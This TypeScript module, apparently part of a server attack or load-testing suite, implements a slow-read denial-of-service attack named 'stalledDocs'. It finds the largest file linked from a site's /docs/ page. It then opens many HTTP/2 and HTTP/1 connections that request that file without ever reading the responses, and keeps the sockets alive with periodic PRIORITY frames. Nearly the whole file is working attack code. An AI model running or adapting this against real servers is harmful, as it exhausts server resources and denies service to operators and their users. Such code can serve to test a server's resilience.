/** Requests for the largest file of the documentation page, whose responses nobody reads. */
import type net from "node:net";
import { keepConnected } from "../wire/crowd.js";
import { encodeHead, pump } from "../wire/http1.js";
import { encodeStart } from "../wire/http2-connection.js";
import { encodeHeaders, encodeRequestBlock, PRIORITY_FRAME } from "../wire/http2-frames.js";
import { STREAMS } from "./bodies-http2.js";
import type { Attack, AttackTarget, Tally } from "./attack.js";

const HTTP2_CONNECTIONS = 20;
const HTTP1_CONNECTIONS = 4;
const PROBE_MS = 1_000;

export const stalledDocs: Attack = async (target, tally, signal) => {
  const path = await largestFile(target);
  const request = encodeHead("GET", path);
  await keepConnected(target, tally, signal, {
    count: HTTP2_CONNECTIONS + HTTP1_CONNECTIONS,
    use(socket, index) {
      socket.pause();
      if (index % (HTTP2_CONNECTIONS + HTTP1_CONNECTIONS) < HTTP2_CONNECTIONS)
        return requestOnStreams(socket, tally, path);
      pump(socket, () => {
        tally.requests++;
        return request;
      });
    },
  });
};

function requestOnStreams(socket: net.Socket, tally: Tally, path: string): void {
  const block = encodeRequestBlock("GET", path);
  socket.write(encodeStart());
  for (let stream = 0; stream < STREAMS; stream++) socket.write(encodeHeaders(stream * 2 + 1, block, true));
  tally.requests += STREAMS;
  // A client that does not read learns of the end of a connection only by writing.
  const timer = setInterval(() => socket.write(PRIORITY_FRAME), PROBE_MS);
  socket.once("close", () => clearInterval(timer));
}

/** The largest file that the page names. */
async function largestFile({ url }: AttackTarget): Promise<string> {
  const page = await fetch(`${url}/docs/`);
  const html = await page.text();
  const paths = [...html.matchAll(/(?:src|href)="([^"#]+)"/g)].map(([, path = ""]) => new URL(path, page.url).pathname);
  let [largest, size] = ["", 0];
  for (const path of new Set(paths)) {
    const { byteLength } = await (await fetch(`${url}${path}`)).arrayBuffer();
    if (byteLength > size) [largest, size] = [path, byteLength];
  }
  if (largest === "") throw new Error(`${page.url} names no files`);
  return largest;
}
